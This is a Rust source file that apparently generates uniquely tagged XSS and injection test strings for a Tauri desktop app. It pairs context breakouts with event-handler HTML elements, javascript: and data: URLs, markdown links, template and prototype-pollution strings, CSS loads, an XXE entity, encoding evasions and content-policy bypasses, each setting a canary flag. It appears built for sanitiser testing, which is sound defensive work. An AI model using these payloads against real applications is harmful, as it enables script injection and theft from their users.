//! What somebody would write who wants their words to be more than words: elements, handlers, addresses, styles, templates
//! and ways out of whatever holds a text, alone and one inside the other.

/// What an element of these is called, so that it is known wherever it turns up.
pub const SIGN: &str = "zq";
/// What a script of these says of itself, in the window that shows the journal.
pub const RAN: &str = "zqRan";

/// Ways out of what may hold the words: an attribute, a comment, another element, a script's text.
const WAYS_OUT: &[&str] = &[
    "",
    "\">",
    "'>",
    "-->",
    "]]>",
    "</textarea>",
    "</title></head><body>",
    "</script>",
    "</style>",
    "</svg></math>",
    "`});//",
    "\\\"))}catch(e){}//",
];

/// Elements that run or fetch something as soon as they are there. `RUN` is a script, `TO` an address.
const ELEMENTS: &[&str] = &[
    "<script zq>RUN</script>",
    "<script zq src=TO></script>",
    "<img zq src=TO onerror=RUN>",
    "<svg zq onload=RUN><image href=TO></svg>",
    "<svg zq><script>RUN</script></svg>",
    "<iframe zq srcdoc='<script>RUN</script>'></iframe>",
    "<iframe zq src=javascript:RUN></iframe>",
    "<object zq data=TO></object>",
    "<embed zq src=TO>",
    "<video zq autoplay src=TO onerror=RUN></video>",
    "<audio zq><source src=TO onerror=RUN></audio>",
    "<input zq autofocus onfocus=RUN>",
    "<details zq open ontoggle=RUN>x</details>",
    "<style zq onload=RUN>@import 'TO';</style>",
    "<link zq rel=stylesheet href=TO onload=RUN>",
    "<math zq><mtext><img src=TO onerror=RUN></mtext></math>",
    "<a zq href=javascript:RUN autofocus onfocus=RUN>x</a>",
    "<div zq style=background:url(TO) onmouseover=RUN>x</div>",
    "<meta zq http-equiv=refresh content='0;url=TO'>",
    "<form zq action=TO><button formaction=javascript:RUN>x</button></form>",
];

/// What works without an element, or by a trick of its own.
const ALONE: &[&str] = &[
    // Markdown.
    "[read](javascript:RUN)",
    "[read](<javascript:RUN> \"title\")",
    "![seen](TO)",
    "![seen](TO \"onerror=RUN\")",
    "<javascript:RUN>",
    "<TO>",
    "[ref][1] [1]: javascript:RUN",
    "[read](data:text/html;base64,PHNjcmlwdD50b3AuenFSYW49MTwvc2NyaXB0Pg==)",
    "```html <script zq>RUN</script> ```",
    "# <img zq src=TO onerror=RUN>",
    "> <svg zq/onload=RUN>",
    "- [ ] <img zq src=TO>",
    "| <script zq>RUN</script> | ![x](TO) |",
    "[x](&Tab;javascript&colon;RUN)",
    "**<b zq onclick=RUN>bold</b>** _<i zq>i</i>_",
    // Addresses.
    "javascript:RUN",
    "JaVaScRiPt:RUN//",
    "java&#9;script:RUN",
    "data:text/html,<script zq>RUN</script>",
    "data:image/svg+xml,<svg zq xmlns='http://www.w3.org/2000/svg' onload='RUN'/>",
    "vbscript:RUN",
    "TO",
    "blob:tauri://localhost/zq",
    "tauri://localhost/zq.html",
    "ipc://localhost/lock",
    // Templates and expressions.
    "{{constructor.constructor('RUN')()}}",
    "${RUN}",
    "<%= RUN %>",
    "#{RUN}",
    "{@html '<img zq src=TO onerror=RUN>'}",
    "{#if RUN}x{/if}",
    "[[${RUN}]]",
    "%{RUN} $(RUN) `RUN`",
    "__proto__",
    "constructor",
    "{\"__proto__\":{\"innerHTML\":\"<img zq src=TO>\"}}",
    // Styles.
    "}*{background:url(TO)}",
    "expression(RUN)",
    "url(TO)",
    "</style><style zq>@import url(TO);*{color:red}",
    "red;background-image:url(TO)",
    // Script texts, quotes and comments.
    "';RUN;'",
    "\";RUN;//",
    "*/RUN/*",
    "<!--<img zq src=TO onerror=RUN>",
    "<![CDATA[<script zq>RUN</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'TO'>]><x zq>&e;</x>",
    "alert(1);RUN",
    // Spellings.
    "&lt;script zq&gt;RUN&lt;/script&gt;",
    "&#60;img zq src=TO onerror=RUN&#62;",
    "%3Cscript%20zq%3ERUN%3C/script%3E",
    "\\u003cimg zq src=TO onerror=RUN\\u003e",
    "\u{FF1C}script zq\u{FF1E}RUN\u{FF1C}/script\u{FF1E}",
    "\u{202E}<img zq src=TO onerror=RUN>\u{202C}",
    "<\u{200B}img zq src=TO onerror=RUN>",
    "<img\u{180E}zq/src=TO/onerror=RUN>",
    "+ADw-script zq+AD4-RUN+ADw-/script+AD4-",
    "<SCRIPT/zq>RUN</SCRIPT >",
    // Past the content policy: what is allowed to this page, turned against it.
    "<script zq src=/theme.js></script><base zq href=TO>",
    "<script zq type=module>import('TO');RUN</script>",
];

/// The texts, no two alike. Each ends with a word of its own, [`word`], by which it is found.
pub fn texts(to: &str) -> Vec<String> {
    let pairs = WAYS_OUT.iter().flat_map(|way| ELEMENTS.iter().map(move |element| format!("{way}{element}")));
    let all = pairs.chain(ALONE.iter().map(ToString::to_string)).enumerate();
    let script = format!("top.{RAN}=1");
    all.map(|(number, text)| {
        let text = text.replace("RUN", &script).replace("TO", &format!("{to}{number}"));
        format!("{text} {}", word(number))
    })
    .collect()
}

/// The word that only this text holds.
pub fn word(number: usize) -> String {
    format!("heron{number:03}")
}
